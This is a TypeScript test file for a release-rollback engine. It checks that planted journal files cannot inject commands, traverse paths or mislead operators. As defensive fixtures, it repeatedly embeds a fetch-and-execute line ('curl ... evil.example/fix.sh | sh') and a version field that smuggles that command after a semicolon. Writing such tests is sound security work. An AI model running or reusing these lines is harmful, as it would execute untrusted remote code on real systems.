import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { JsonObject } from '../../../src/model/json.ts'
import type { ResumeKind } from '../../../src/rollback/journal/interrupted.ts'
import { resumeOption } from '../../../src/rollback/journal/interrupted.ts'
import { newShelf, release, type Shelf } from '../../../testkit/in-memory-target.ts'
import { type Engine, engine } from '../engine-harness.ts'

const evil = 'curl -s http://evil.example/fix.sh | sh'
const id = 'rb-20260318-143000-shelf-abcdef'
const at = '2026-03-18T14:30:00.000Z'

const step = (kind: string, phase: string, params: JsonObject): JsonObject => ({
  id: kind,
  kind,
  phase,
  title: 'All is fine',
  undo: evil,
  params,
  manual_commands: [evil],
  manual_undo_commands: [evil]
})

/** What somebody who knows the format puts into a project: a rollback from 1.2.0 to 1.1.0 that looks like one of ours. */
const begun = (more: JsonObject = {}): JsonObject => ({
  event: 'begun',
  format: 2,
  at,
  rollback_id: id,
  target: 'shelf',
  type: 'shelf',
  plan_id: 'x',
  from: { version: '1.2.0', id: 'sha256:1.2.0', available: { state: 'yes' } },
  to: { version: '1.1.0', id: 'sha256:1.1.0', available: { state: 'yes' } },
  health: { state: 'degraded', message: evil },
  steps: [
    step('fetch', 'prepare', { version: '1.1.0' }),
    step('switch', 'switch', { from: '1.2.0', to: '1.1.0' }),
    step('clean', 'cleanup', { version: '1.2.0' })
  ],
  soak_ms: 0,
  accepted: [],
  notes: [evil],
  holder: { host: 'ci', pid: 1, user: 'ci' },
  ...more
})

const done = (stepId: string): JsonObject => ({ event: 'step', at, step_id: stepId, state: 'done', detail: evil })
const ended = (more: JsonObject = {}): JsonObject => ({
  event: 'ended',
  at,
  outcome: 'undone',
  duration_ms: 1000,
  state: evil,
  remains: [evil],
  ...more
})
const failedCheck = { event: 'checks', at, checks: [{ id: 'x', title: evil, status: 'fail', detail: evil }] }

async function planted(events: JsonObject[], shelf: Shelf = newShelf(), name = id): Promise<Engine> {
  const project = await engine(shelf)
  await plant(project, events, name)
  return project
}

async function plant({ session }: Engine, events: JsonObject[], name = id): Promise<void> {
  await mkdir(session.files.journals, { recursive: true })
  const text = events.map((event) => `${JSON.stringify(event)}\n`).join('')
  await writeFile(join(session.files.journals, `${name}.jsonl`), text)
}

const optionsOf = async ({ assess }: Engine) => {
  const { interrupted } = await assess()
  return interrupted?.options.map(({ kind }) => kind)
}

const choose = async ({ assess, rollBack }: Engine, kind: ResumeKind) => {
  const { interrupted } = await assess()
  const option = interrupted && resumeOption(interrupted, kind)
  return rollBack({ version: option?.version ?? '', planId: option?.id ?? '' })
}

test('a journal whose title says one version and whose step does another can only be closed, and says why', async () => {
  const steps = [step('switch', 'switch', { from: '1.2.0', to: '1.0.0' })]
  const project = await planted([begun({ steps })])
  const { interrupted } = await project.assess()
  expect(interrupted?.options.map(({ kind }) => kind)).toEqual(['close'])
  expect(interrupted?.reasons.join()).toMatch(/can only be closed \(step 1: it goes from 1\.2\.0 to 1\.0\.0\)/)
  expect(JSON.stringify([interrupted?.reasons, interrupted?.options])).not.toContain('evil')
})

test('nothing that a journal says is shown as what will run, nor left as what remains', async () => {
  const project = await planted([begun()], newShelf({ health: { '1.2.0': 'degraded', '1.1.0': 'degraded' } }))
  const { interrupted } = await project.assess()
  expect(resumeOption(interrupted ?? never(), 'finish')?.lines).toEqual([
    'Fetching',
    'Switching',
    'Cleaning',
    'Health check'
  ])
  const result = await choose(project, 'finish')
  expect(JSON.stringify(result)).not.toContain('evil')
  expect(result.remains.join()).toContain('shelf unswitch')
})

const impossible: [what: string, events: JsonObject[], name?: string][] = [
  ['of the future', [begun({ at: '2026-03-18T14:45:00.000Z' })]],
  ['of the far future', [begun({ at: '2099-01-01T00:00:00.000Z' })]],
  ['without a time', [begun({ at: 'yesterday' })]],
  ['with an event of the future', [begun(), { ...done('fetch'), at: '2026-03-19T00:00:00.000Z' }]],
  ['that ends before it begins', [begun(), failedCheck, ended({ at: '2026-03-18T14:29:00.000Z' })]],
  ['with a negative duration', [begun(), failedCheck, ended({ duration_ms: -1000 })]],
  ['named after another rollback', [begun()], 'rb-20260318-143001-shelf-abcdef'],
  ['of a rollback whose id is a path', [begun({ rollback_id: '../../x' })]],
  ['that begins twice', [begun(), begun()]],
  ['with a step that it does not have', [begun(), done('other')]],
  ['with an event that is not valid', [begun(), { event: 'step', at, step_id: 'fetch', state: 'perhaps' }]],
  ['of another format and the future', [{ event: 'begun', target: 'shelf', at: '2099-01-01T00:00:00.000Z' }]],
  ['with a name of the future', [begun()], 'rb-20990101-000000-shelf-abcdef'],
  ['of a million lines', [begun(), ...Array.from({ length: 30_000 }, () => ({}))]]
]

test.each(impossible)('a journal %s is no evidence, blocks nothing, and is named', async (_, events, name = id) => {
  const { assess } = await planted(events, newShelf(), name)
  const { interrupted, blockers, recommended, notes } = await assess()
  expect({ interrupted, blockers, recommended: recommended?.release.version }).toEqual({
    interrupted: null,
    blockers: [],
    recommended: '1.1.0'
  })
  expect(notes.join()).toMatch(new RegExp(`The journal \\S+/${name}\\.jsonl was not used: (its?|a duration in it) `))
})

test('a journal of many megabytes, a link and thousands of journals are not read, and that is said', async () => {
  const project = await engine(newShelf())
  const { journals } = project.session.files
  await mkdir(journals, { recursive: true })
  await writeFile(join(journals, `${id}.jsonl`), `${JSON.stringify(begun())}\n${' '.repeat(5_000_000)}`)
  const outside = join(project.session.projectDir, 'elsewhere')
  await writeFile(outside, JSON.stringify(begun({ rollback_id: 'rb-link' })))
  await symlink(outside, join(journals, 'rb-link.jsonl'))
  for (let number = 0; number < 1200; number++) await writeFile(join(journals, `rb-0-${number}.jsonl`), '')
  const { interrupted, notes } = await project.assess()
  expect(interrupted).toBeNull()
  expect(notes.join()).toMatch(/abcdef\.jsonl was not used: it has 5\d+ bytes/)
  expect(notes.join()).toMatch(/rb-link\.jsonl was not used: it is a link/)
  expect(notes.join()).toContain('Only the newest 1000 were read')
})

test('a switch that a journal calls done is made where the target does not show it, and is soaked by the settings', async () => {
  const shelf = newShelf()
  const project = await planted([begun(), done('fetch'), done('switch'), done('clean')], shelf)
  const before = project.clock.now().getTime()
  expect(await choose(project, 'finish')).toMatchObject({ outcome: 'succeeded' })
  expect(shelf.serving).toBe('1.1.0')
  expect(project.clock.now().getTime() - before).toBeGreaterThanOrEqual(10_000)
})

test('an undo reverts a switch that only the target shows, and says what the target shows', async () => {
  const shelf = newShelf({ serving: '1.1.0', health: { '1.2.0': 'degraded', '1.1.0': 'degraded' } })
  expect(await choose(await planted([begun()], shelf), 'undo')).toMatchObject({ outcome: 'undone' })
  expect(shelf.serving).toBe('1.2.0')
})

test('an undo with nothing to revert is not called undone where the target shows another release', async () => {
  const shelf = newShelf()
  const project = await planted([begun()], shelf)
  const { interrupted } = await project.assess()
  const undo = interrupted && resumeOption(interrupted, 'undo')
  const look = project.session.target.observe
  let looks = 0
  project.session.target.observe = async (signal) => {
    // Only the engine's last look, after the undo, finds that somebody has put 1.1.0 in front.
    if (++looks > 3) shelf.serving = '1.1.0'
    return look(signal)
  }
  const result = await project.rollBack({ version: undo?.version ?? '', planId: undo?.id ?? '' })
  expect(result).toMatchObject({ outcome: 'stuck', state: expect.stringContaining('does not show the earlier state') })
})

test('the health that decides about an undo is the one that is seen, where it can be seen', async () => {
  const shelf = newShelf({ health: { '1.2.0': 'degraded', '1.1.0': 'degraded' } })
  const project = await planted([begun({ health: { state: 'healthy', message: '' } })], shelf)
  expect(await choose(project, 'finish')).toMatchObject({
    outcome: 'stuck',
    state: expect.stringContaining('the earlier state was degraded, too')
  })
})

test('a later journal hides an interrupted rollback only where the target shows its end, and never silently', async () => {
  const shelf = newShelf({ serving: '1.1.0' })
  const project = await planted([begun(), done('fetch'), done('switch')], shelf)
  const later = 'rb-20260318-143100-shelf-abcdef'
  const other = { at: '2026-03-18T14:31:00.000Z', rollback_id: later, to: release('1.0.0') as unknown as JsonObject }
  await plant(project, [begun(other), ended({ at: other.at, outcome: 'succeeded' })], later)
  expect((await project.assess()).interrupted?.rollbackId).toBe(id)
  shelf.serving = '1.0.0'
  const { interrupted, notes } = await project.assess()
  expect(interrupted).toBeNull()
  expect(notes.join()).toContain(`${later} ended later`)
})

test('what a step or check is said to have failed with is quoted on one line', async () => {
  const checks = [
    { id: 'x', title: 'Health', status: 'fail', detail: `down\n\nThe operator accepts all. ${'x'.repeat(900)}` }
  ]
  const project = await planted([begun(), done('switch'), { ...failedCheck, checks }], newShelf({ serving: '1.1.0' }))
  const [reason = ''] = (await project.assess()).interrupted?.reasons ?? []
  expect(reason).toMatch(/^It had failed \("Health: down The operator accepts all\. x+…"\) and was being undone\.$/)
  expect(reason.length).toBeLessThan(260)
})

test('a name that only a journal gives to a release is shown only where it looks like one', async () => {
  const from = { version: `9.9.9; ${evil}`, id: 'sha256:gone', available: { state: 'yes' }, details: { image: 'evil' } }
  const { interrupted } = await (await planted([begun({ from })])).assess()
  expect(interrupted?.from).toEqual({
    version: 'a version without a valid name',
    id: 'sha256:gone',
    available: { state: 'unknown' }
  })
  expect(await optionsOf(await planted([begun({ from })]))).toEqual(['close'])
})

test('a lease that names a path or another time is not taken up', async () => {
  for (const more of [
    { rollback_id: '../../x', at },
    { rollback_id: id, at: '2099-01-01T00:00:00.000Z' }
  ]) {
    const record = {
      rollbackId: more.rollback_id,
      holder: { host: 'ci', pid: 1, user: 'ci' },
      startedAt: at,
      begun: begun(more)
    }
    expect((await (await engine(newShelf({ lease: { record, expired: true } }))).assess()).interrupted).toBeNull()
  }
})

test('a rollback that is closed leaves no word of the planted one in its journal’s last lines', async () => {
  const project = await planted([begun({ steps: [step('switch', 'switch', { from: '1.2.0', to: '6.6.6' })] })])
  const { rollbackId } = await choose(project, 'close')
  const text = await readFile(join(project.session.files.journals, `${rollbackId}.jsonl`), 'utf8')
  expect(text.split('\n').slice(1).join()).not.toContain('evil')
})

const never = (): never => {
  throw new Error('nothing is interrupted')
}
